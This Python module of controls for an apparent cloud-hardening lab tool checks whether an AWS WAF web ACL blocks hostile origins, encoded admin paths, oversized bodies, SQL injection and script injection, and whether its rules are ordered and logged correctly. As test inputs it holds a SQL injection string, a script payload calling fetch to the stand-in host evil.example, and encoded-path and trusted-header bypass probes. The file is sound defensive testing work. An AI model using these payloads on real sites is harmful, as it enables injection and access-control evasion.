"""Controls of AWS WAF: what becomes of requests, asked one by one."""

from ipaddress import ip_network

from hardenlab import HIGH, MEDIUM, PATH, RESOURCE, control, failed, passed, unknown

READER = "84.19.100.7"
LONG = b"text=" + b"a" * 20_000
SQL = "/search?q=1%27%20OR%20%271%27%3D%271"
SCRIPT = b"text=%3Cscript%3Efetch(%27//evil.example%27)%3C/script%3E"


@control(
    severity=HIGH,
    layer=PATH,
    references=("SecurityHub ELB.16", "course 3.45", "course 3.46", "AWS WAF: Geographic match rule statement"),
)
def wafv2_requests_filtered_by_origin(account):
    """Requests from the hostile range and from the licence's countries are blocked.

    Judged by requests: from several addresses of the range, and from each country.

    ## Why it matters
    Where a request comes from is the cheapest thing to filter by, and the first that an attacker changes: it keeps out
    noise and obeys a contract. It is no proof of who somebody is.

    ## Remediation
    Put the web ACL in front of the balancer; give the rule on the IP set the action Block, not Count; name every
    country of the licence in the geographic rule.
    """
    hostile = ip_network(account.facts["hostile_range"])
    strangers = [(str(hostile[at]), {"country": "DE"}) for at in (1, 77, hostile.num_addresses // 2, -2)]
    countries = [(READER, {"country": code}) for code in account.facts["blocked_countries"]]
    yield all_blocked(account, "addresses", [(ip, "/", more) for ip, more in strangers])
    yield all_blocked(account, "countries", [(ip, "/", more) for ip, more in countries])


@control(
    severity=HIGH,
    layer=PATH,
    references=(
        "course 3.47",
        "course 3.48",
        "AWS WAF: Text transformations",
        "AWS WAF: Oversize web request components",
    ),
)
def wafv2_requests_filtered_by_content(account):
    """The editors' page is closed to everybody else however it is written, and long bodies are refused.

    ## Why it matters
    A rule compares bytes. /ADMIN and /%61dmin are other bytes and the same page, unless the rule decodes and lowers
    them first; so is //admin, unless it normalises the path. And WAF sees the first kilobytes of a body only: what a
    rule says of the rest is a choice of its own.

    ## Remediation
    Give the rule for /admin the transformations URL_DECODE, NORMALIZE_PATH and LOWERCASE. Limit the body by a size
    constraint (GT 8192) whose oversize handling is MATCH: a body that is too long to be seen is too long.
    """
    paths = ["/admin", "/admin/articles", "/ADMIN/", "/%61dmin/users", "/Adm%69n"]
    yield all_blocked(account, "paths", [(READER, path, {"country": "DE"}) for path in paths])
    bodies = [{"country": "DE", "method": "POST", "body": LONG * times} for times in (1, 4)]
    yield all_blocked(account, "sizes", [(READER, "/comments", more) for more in bodies])


@control(
    severity=HIGH,
    layer=PATH,
    references=("course 3.49", "AWS WAF: SQL injection attack rule statement"),
)
def wafv2_injections_blocked(account):
    """SQL in the query and scripts in the body are looked for, and blocked when found.

    Whether AWS's detectors recognise a given text is not published; judged is that one of them looks at the part of the
    request that holds it, and blocks.

    ## Why it matters
    A rule that counts is a rule on trial: it reports what it would have stopped and lets it in. Trials that nobody ends
    are how a site with a web ACL loses its comments table.

    ## Remediation
    Give the rules the action Block (managed rule groups: OverrideAction None). They should look at the query string and
    the body, after URL decoding.
    """
    query = (READER, SQL, {"country": "DE"}), (READER, SQL.split("?")[0], {"country": "DE"})
    yield _looked_at(account, "sql", *query, "AWSManagedRulesSQLiRuleSet")
    post = {"country": "DE", "method": "POST"}
    comment = (READER, "/comments", post | {"body": SCRIPT}), (READER, "/comments", post)
    yield _looked_at(account, "scripts", *comment, "AWSManagedRulesCommonRuleSet")


@control(
    severity=MEDIUM,
    layer=RESOURCE,
    references=(
        "SecurityHub WAF.11",
        "course 3.51",
        "AWS WAF: Setting rule priority",
        "AWS WAF: Logging web ACL traffic",
    ),
)
def wafv2_web_acl_acts_and_logs(account):
    """Nobody is let in before the rules are asked, and the web ACL's log is kept.

    ## Why it matters
    Rules are asked in the order of their priority, and Allow ends the asking. A rule that allows whoever sends a
    certain header, in front of the others, is a password that stands in the documentation of the probe.

    ## Remediation
    Delete the rule, or tie it to the probe's addresses and move it behind the others. Log to a group whose name begins
    with aws-waf-logs-.
    """
    web = account.web(account.facts["site_balancer"])
    if web.document is None:
        yield failed(account.facts["site_balancer"], "no web ACL stands before the site")
        return
    logs = web.log_destinations()
    evidence = [("wafv2:GetLoggingConfiguration", "LogDestinationConfigs", ", ".join(logs) or "none")]
    gone = [arn for arn in logs if not account.log_place_exists(arn)]
    if gone:
        yield failed(f"{web.id}/log", f"requests are logged to {gone[0]}, which is gone", evidence=evidence)
    elif logs and not web.logs_blocked_requests():
        yield failed(f"{web.id}/log", "the log leaves out what is blocked", evidence=evidence)
    elif logs:
        yield passed(f"{web.id}/log", "requests are logged", evidence=evidence)
    else:
        yield failed(f"{web.id}/log", "requests are not logged", evidence=evidence)
    stranger = str(ip_network(account.facts["hostile_range"])[9])
    words = {"user-agent": "Mozilla/5.0"} | dict(_passwords(web.document["Rules"]))
    yield all_blocked(account, "order", [(stranger, "/admin", {"country": "DE", "headers": words})])


def _passwords(part):
    """The headers by which rules that allow know their friends, as whoever has read the rules would send them."""
    if isinstance(part, list):
        for item in part:
            if "Action" not in item or "Allow" in item["Action"]:
                yield from _passwords({key: value for key, value in item.items() if key != "VisibilityConfig"})
    elif isinstance(part, dict):
        header = part.get("FieldToMatch", {}).get("SingleHeader", {}).get("Name")
        if header and "SearchString" in part:
            text = part["SearchString"]
            yield header.lower(), text.decode("utf-8", "replace") if isinstance(text, bytes) else text
        for key in ("Statement", "Statements", "AndStatement", "OrStatement", "ByteMatchStatement"):
            yield from _passwords(part.get(key))


def _looked_at(account, what, request, twin, managed):
    """A request is blocked, or a detector of AWS's looks at the part that its twin lacks; a managed group sees all."""
    web = account.web(account.facts["site_balancer"])
    ip, target, more = request
    answer = web.ask(ip, target, **more)
    same = web.ask(twin[0], twin[1], **twin[2])
    about = f"{more.get('method', 'GET')} {target[:60]} from {ip}"
    resource = f"{web.id}/{what}"
    if answer.action == "UNKNOWN":
        return unknown(resource, f"cannot judge {about}: {answer.sentence}")
    if answer.action == "BLOCK" or what in answer.detectors - same.detectors or managed in answer.detectors:
        return passed(resource, f"{what} is looked for where it would stand, and blocked")
    evidence = [("wafv2:GetWebACL", "Rules", answer.rule or "the default action")]
    why = "no rule that blocks looks at the part that holds it" if answer.detectors else answer.sentence
    return failed(resource, f"{about} is let in: {why}", evidence=evidence, witness=about)


def all_blocked(account, what, requests):
    """Every one of these requests is blocked for certain."""
    web = account.web(account.facts["site_balancer"])
    resource = f"{web.id}/{what}"
    for ip, target, more in requests:
        answer = web.ask(ip, target, **more)
        about = f"{more.get('method', 'GET')} {target[:60]} from {ip} ({more['country']})"
        if answer.action == "UNKNOWN":
            return unknown(resource, f"cannot judge {about}: {answer.sentence}")
        if answer.action != "BLOCK":
            evidence = [("wafv2:GetWebACL", "Rules", answer.rule or "the default action")]
            return failed(resource, f"{about} is let in: {answer.sentence}", evidence=evidence, witness=about)
    return passed(resource, f"{what}: {len(requests)} requests that should not get in do not")
